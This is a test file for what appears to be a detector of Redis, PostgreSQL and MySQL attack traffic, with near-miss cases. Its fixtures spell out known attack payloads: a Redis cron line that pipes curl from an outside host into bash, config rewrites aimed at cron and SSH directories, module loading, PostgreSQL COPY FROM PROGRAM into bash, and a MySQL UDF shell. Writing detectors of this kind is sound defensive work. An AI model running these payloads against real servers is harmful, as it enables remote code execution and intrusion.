// Redis, PostgreSQL and MySQL: orders that patches know, their outcome, and how logins went.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { rowsOfTalk, type Said, type Setting } from '../../../test/wire.ts'
import { mysql } from './mysql.ts'
import { postgresql } from './postgresql.ts'
import { redis } from './redis.ts'

const found = (said: readonly Said[], setting: Setting = {}) => {
  const { exploits = [], loginTries = [] } = rowsOfTalk([redis, postgresql, mysql], said, setting)
  return {
    exploits: exploits.map(({ patch, succeeded }) => [patch, succeeded]).sort(),
    logins: loginTries.map(({ service, users, refused, accepted }) => [service, users, refused, accepted]),
  }
}
const single = (said: readonly Said[]): Said[] => said.flatMap(([from, text]) => [...(text as string)].map((c): Said => [from, c]))
const none = { exploits: [], logins: [] }

const resp = (...words: readonly string[]): string => `*${words.length}\r\n${words.map(word => `$${word.length}\r\n${word}\r\n`).join('')}`
const cron = '\n\n*/2 * * * * curl -fsSL http://198.51.100.7/i.sh | bash\n\n'
const writesCron: Said[] = [
  [0, resp('AUTH', 'a') + resp('AUTH', 'default', 'b')],
  [1, '-WRONGPASS no\r\n+OK\r\n'],
  [0, resp('GET', 'x') + resp('SET', 'x', cron)],
  [1, '$-1\r\n+OK\r\n'],
  [0, resp('CONFIG', 'SET', 'dir', '/var/spool/cron/') + resp('CONFIG', 'SET', 'dbfilename', 'root')],
  [1, '+OK\r\n-ERR no\r\n'],
]

test('Redis: a crontab written by CONFIG, in any segments; inline', () => {
  const expected = {
    exploits: [
      ['redis-config-dbfilename', false],
      ['redis-config-dir', true],
      ['redis-cron-value', true],
    ],
    logins: [['redis', ['default'], 1, true]],
  }
  assert.deepEqual(found(writesCron), expected)
  assert.deepEqual(found(single(writesCron)), expected)
  assert.deepEqual(
    found([
      [0, 'config set dir /root/.ssh\r\n'],
      [1, '+OK\r\n'],
    ]).exploits,
    [['redis-config-dir', true]],
  )
})

test('Redis: a master that is a stranger, what it sends, modules, seen from the middle and turned', () => {
  const rogue: Said[] = [
    [0, resp('PSYNC', '?', '1')],
    [1, `+FULLRESYNC ${'a'.repeat(40)} 1\r\n$9\r\n\x7fELF\x02\x01\x01\x00\x00\r\n`],
  ]
  assert.deepEqual(found(rogue).exploits, [['redis-replica-payload', undefined]])
  assert.deepEqual(found(single(rogue)).exploits, [['redis-replica-payload', undefined]])
  const turned: Said[] = [
    [1, resp('MODULE', 'LOAD', './exp.so')],
    [0, '+OK\r\n'],
    [1, resp('system.exec', 'id')],
  ]
  assert.deepEqual(found(turned, { midstream: true }).exploits, [
    ['redis-module-load', true],
    ['redis-system-exec', undefined],
  ])
  const after: Said[] = [
    [0, resp('SET', 'x', 'y'.repeat(100)).slice(0, 60)],
    [0, 70],
    [0, resp('SLAVEOF', '198.51.100.7', '1')],
  ]
  assert.ok(found(after).exploits.length <= 1)
})

test('near miss: an ordinary day of Redis', () => {
  const said: Said[] = [
    [0, resp('CONFIG', 'SET', 'maxmemory', '1gb') + resp('REPLICAOF', 'NO', 'ONE') + resp('SET', 'job', '{"cron":"*/5 * * * *"}')],
    [1, '+OK\r\n+OK\r\n+OK\r\n'],
    [0, resp('REPLICAOF', '10.0.0.4', '6379') + resp('EVAL', "return redis.call('get', 'x')", '0')],
  ]
  assert.deepEqual(found(said), none)
  assert.deepEqual(
    found([
      [0, 'GET / HTTP/1.1\r\n\r\n'],
      [0, '*hello\r\n'],
      [0, 'PING :x\r\n'],
    ]),
    none,
  )
})

const u32 = (n: number): string => String.fromCharCode(n >>> 24, (n >> 16) & 255, (n >> 8) & 255, n & 255)
const pg = (letter: string, body: string): string => `${letter}${u32(body.length + 4)}${body}`
const startup = (() => {
  const body = '\x00\x03\x00\x00user\x00postgres\x00database\x00shop\x00\x00'
  return u32(body.length + 4) + body
})()
const copies = pg('Q', "DROP TABLE IF EXISTS a;COPY/**/a FROM\nPROGRAM 'echo Y3VybCA= | base64 -d | bash'\x00")

test('PostgreSQL: COPY … PROGRAM with its outcome, plain and prepared, after TLS was declined', () => {
  const talk: Said[] = [
    [0, u32(8) + u32(80_877_103)],
    [1, 'N'],
    [0, startup],
    [1, pg('R', u32(0)) + pg('Z', 'I')],
    [0, copies],
    [1, pg('C', 'COPY 1\x00') + pg('Z', 'I')],
  ]
  const exploits = [
    ['postgresql-copy-program', true],
    ['postgresql-copy-program-shell', true],
  ]
  assert.deepEqual(found(talk), { exploits, logins: [['postgresql', ['postgres'], 0, true]] })
  assert.deepEqual(found(single(talk)).exploits, exploits)
  const parsed: Said[] = [
    [0, startup],
    [1, pg('R', u32(0))],
    [0, pg('P', "s1\x00COPY a TO PROGRAM 'id'\x00\x00\x00")],
    [1, pg('E', 'SERROR\x00C42501\x00')],
  ]
  assert.deepEqual(found(parsed).exploits, [['postgresql-copy-program', false]])
  assert.equal(found([[0, copies]], { midstream: true }).exploits.length, 2)
})

test('PostgreSQL: refused; near miss: COPY FROM STDIN, encrypted', () => {
  assert.deepEqual(
    found([
      [0, startup],
      [1, pg('R', u32(3))],
      [0, pg('p', 'x\x00')],
      [1, pg('E', 'SFATAL\x00C28P01\x00Mno\x00\x00')],
    ]).logins,
    [['postgresql', ['postgres'], 1, false]],
  )
  const said: Said[] = [
    [0, startup],
    [1, pg('R', u32(0))],
    [0, pg('Q', 'COPY t FROM STDIN\x00')],
    [0, pg('d', "from program 'curl'")],
  ]
  assert.deepEqual(found(said).exploits, [])
  assert.deepEqual(
    found([
      [0, u32(8) + u32(80_877_103)],
      [1, 'S'],
      [0, copies],
    ]),
    none,
  )
})

const my = (number: number, body: string): string =>
  `${String.fromCharCode(body.length & 255, body.length >> 8)}\x00${String.fromCharCode(number)}${body}`
const greeting = my(0, `\x0a8.0.36\x00${'g'.repeat(60)}`)
const hello = my(1, `\x85\xa6\x03\x00${'\x00'.repeat(28)}root\x00\x00`)

test('MySQL: a library written and loaded, its outcome; refused logins', () => {
  const talk: Said[] = [
    [1, greeting],
    [0, hello],
    [1, my(2, '\x00\x00\x00\x02\x00\x00\x00')],
    [0, my(0, `\x03SELECT 0x7f454c46${'00'.repeat(20_000)} INTO/**/DUMPFILE '/usr/lib/mysql/plugin/u.so'`)],
    [1, my(1, '\xff\x22\x05#HY000no')],
    [0, my(0, "\x03CREATE FUNCTION sys_eval RETURNS string SONAME 'u.so'")],
    [1, my(1, '\x00\x00\x00\x02\x00\x00\x00')],
  ]
  const expected = {
    exploits: [
      ['mysql-dumpfile-code', false],
      ['mysql-udf-shell', true],
      ['mysql-udf-soname', true],
    ],
    logins: [['mysql', ['root'], 0, true]],
  }
  assert.deepEqual(found(talk), expected)
  assert.deepEqual(
    found([
      [1, greeting],
      [0, hello],
      [1, my(2, '\xff\x15\x04#28000Access denied')],
    ]).logins,
    [['mysql', ['root'], 1, false]],
  )
})

test('near miss: MySQL’s ordinary queries, an encrypted one', () => {
  const start: Said[] = [
    [1, greeting],
    [0, hello],
    [1, my(2, '\x00\x00\x00')],
  ]
  assert.deepEqual(found([...start, [0, my(0, "\x03SELECT 'into dumpfile' FROM help")]]).exploits, [])
  assert.deepEqual(
    found([
      [1, greeting],
      [0, my(1, `\x85\xae\x03\x00${'\x00'.repeat(28)}`)],
      [0, '\x16\x03\x01'],
    ]),
    none,
  )
})
